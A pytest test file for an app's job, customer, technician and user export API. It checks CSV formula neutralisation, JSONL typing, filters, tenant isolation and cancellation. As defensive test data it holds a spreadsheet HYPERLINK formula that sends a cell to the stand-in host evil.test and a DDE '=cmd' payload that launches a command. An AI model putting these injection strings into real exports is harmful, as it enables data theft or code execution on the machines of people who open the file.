"""Exports end to end: asked for over HTTP, written by a real Celery
worker, watched and downloaded through the admin jobs API."""
import json
from datetime import datetime, timezone

import pytest

from models.ops import exports
from tests.support.dispatch import Board
from tests.support.exports import (JOB_COLUMNS, JOBS, bulk_jobs, csv_rows, export_files, exported, finished, listed,
                                   start)
from tests.support.waiting import wait_for

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'


@pytest.fixture
def board(client, auth):
    return Board(client, auth.a)


def test_a_csv_export_of_jobs_is_downloaded_with_formulas_neutralised(client, auth, board, worker):
    customer = board.customer(FORMULA)
    tech = board.technician("John Smith")
    first = board.job(customer["id"], "=1+2", description="@SUM(A1:A9)")
    board.assign(first["id"], tech["id"])
    second = board.job(customer["id"], "-2+3", description="\t=cmd|' /C calc'!A0", value=99.9)
    gone = board.job(customer["id"], "Deleted job")
    client.delete(f"/api/v1/jobs/{gone['id']}", headers=board.headers)
    other = Board(client, auth.b)
    other.job(other.customer("Bravo Customer")["id"], "Bravo's secret job")

    r = start(client, auth.a)
    assert r.status_code == 202
    started = r.get_json()["data"]
    assert started["kind"] == "export" and started["status"] == "queued"
    assert r.headers["Location"] == started["status_url"] == f"{JOBS}/{started['job_id']}"

    job, text, download = exported(client, auth.a)
    today = datetime.now(timezone.utc).date().isoformat()  # the organization's time zone is UTC
    assert job["file_name"] == f"jobs-{today}.csv" and job["progress"] == 100
    assert job["result"]["rows"] == 2 and job["attempts"] == 1
    assert f'filename=jobs-{today}.csv' in download.headers["Content-Disposition"]
    assert text.splitlines()[0] == ",".join(JOB_COLUMNS)
    rows = csv_rows(text)
    assert [int(row["id"]) for row in rows] == [first["id"], second["id"]]  # live rows, this organization's only
    assert rows[0]["title"] == "'=1+2" and rows[0]["description"] == "'@SUM(A1:A9)"
    assert rows[0]["customer_name"] == "'" + FORMULA  # shown as text, never run
    assert rows[0]["technician_name"] == "John Smith" and rows[0]["status"] == "assigned"
    assert rows[1]["title"] == "'-2+3" and rows[1]["description"] == "'\t=cmd|' /C calc'!A0"
    assert rows[1]["value"] == "99.90" and rows[1]["technician_name"] == ""
    assert rows[1]["scheduled_date"] == "2024-01-15"
    assert rows[1]["created_at"] == second["created_at"] and rows[1]["lat"] == "40.7128"  # as the API writes them
    assert "Bravo" not in text and "Deleted job" not in text


def test_jsonl_keeps_values_exact_and_typed(client, auth, board, worker):
    customer = board.customer("Acme")
    job = board.job(customer["id"], "=1+2", value=450.5)
    _, text, download = exported(client, auth.a, fmt="jsonl")
    assert download.headers["Content-Disposition"].endswith(".jsonl")
    [row] = [json.loads(line) for line in text.splitlines()]
    assert list(row) == JOB_COLUMNS
    assert row["id"] == job["id"] and row["title"] == "=1+2"  # for programs: data as it is
    assert row["value"] == 450.5 and row["lat"] == 40.7128 and row["technician_id"] is None
    assert row["scheduled_date"] == "2024-01-15" and row["created_at"] == job["created_at"]


def test_filters_narrow_the_rows(client, auth, board, worker):
    customer, other_customer = board.customer("Acme"), board.customer("Other")
    tech = board.technician("John Smith")
    urgent = board.job(customer["id"], "Urgent", priority="urgent", scheduled_date="2024-03-01")
    assigned = board.job(customer["id"], "Assigned", scheduled_date="2024-02-01")
    board.assign(assigned["id"], tech["id"])
    board.job(other_customer["id"], "Elsewhere", scheduled_date="2024-01-01")

    def ids(**filters):
        return [int(row["id"]) for row in csv_rows(exported(client, auth.a, **filters)[1])]

    assert ids(priority=["urgent"]) == [urgent["id"]]
    assert ids(status="assigned,pending", customer_id=customer["id"]) == [urgent["id"], assigned["id"]]
    assert ids(technician_id=tech["id"]) == [assigned["id"]]
    assert ids(date_from="2024-01-15", date_to="2024-02-15") == [assigned["id"]]

    users = csv_rows(exported(client, auth.a, "users", role=["technician", "dispatcher"], is_active=True)[1])
    assert sorted(row["role"] for row in users) == ["dispatcher", "technician"]


def test_every_resource_exports_its_own_rows_and_users_never_their_secrets(client, auth, board, worker):
    customer = board.customer("Acme")
    board.technician("John Smith", skills=["HVAC", "Plumbing"])
    board.project(customer["id"], "Office Renovation")
    Board(client, auth.b).customer("Bravo Customer")

    customers = csv_rows(exported(client, auth.a, "customers", city="New York")[1])
    assert [row["name"] for row in customers] == ["Acme"]
    [tech] = csv_rows(exported(client, auth.a, "technicians", skill="Plumbing")[1])
    assert tech["name"] == "John Smith" and sorted(tech["skills"].split(", ")) == ["HVAC", "Plumbing"]
    assert tech["phone"] == "'+1234567890"  # OWASP's rule spares no leading +, phone numbers included
    [project] = csv_rows(exported(client, auth.a, "projects", status=["active"])[1])
    assert project["name"] == "Office Renovation" and project["customer_name"] == "Acme"

    job, text, _ = exported(client, auth.a, "users")
    header = text.splitlines()[0]
    assert header == "id,name,email,phone,role,is_active,created_at,last_login_at"
    assert job["result"]["rows"] == len(auth.a.user_ids)
    assert "scrypt" not in text and "pbkdf2" not in text and "Bravo" not in text


def test_a_running_export_cancelled_stops_within_seconds_and_leaves_no_file(client, auth, board, db, app, worker,
                                                                            monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 50)  # small chunks, each reported: a long, watchable run (seconds on SQLite too)
    monkeypatch.setattr(exports, "PROGRESS_SECONDS", 0)
    bulk_jobs(db, auth.a.org_id, board.customer("Acme")["id"], 40_000)
    bulk_jobs(db, auth.b.org_id, Board(client, auth.b).customer("Bravo")["id"], 500)

    job_id = start(client, auth.a).get_json()["data"]["job_id"]

    def under_way():
        job = listed(client, auth.a, job_id)
        return job if job["progress"] > 0 else None

    running = wait_for(under_way, timeout=30)
    assert running["status"] == "running" and running["message"].endswith(" of 40000 rows")  # its own rows only
    r = client.post(f"{JOBS}/{job_id}/cancel", headers=auth.a.headers())
    assert r.status_code == 200 and r.get_json()["data"]["cancel_requested"] is True

    job = finished(client, auth.a, job_id, timeout=10)
    assert job["status"] == "cancelled" and job["download_url"] is None and job["file_name"] is None
    assert client.get(f"{JOBS}/{job_id}/download", headers=auth.a.headers()).status_code == 404
    assert export_files(app, auth.a.org_id, job_id) == []  # not even a partial file
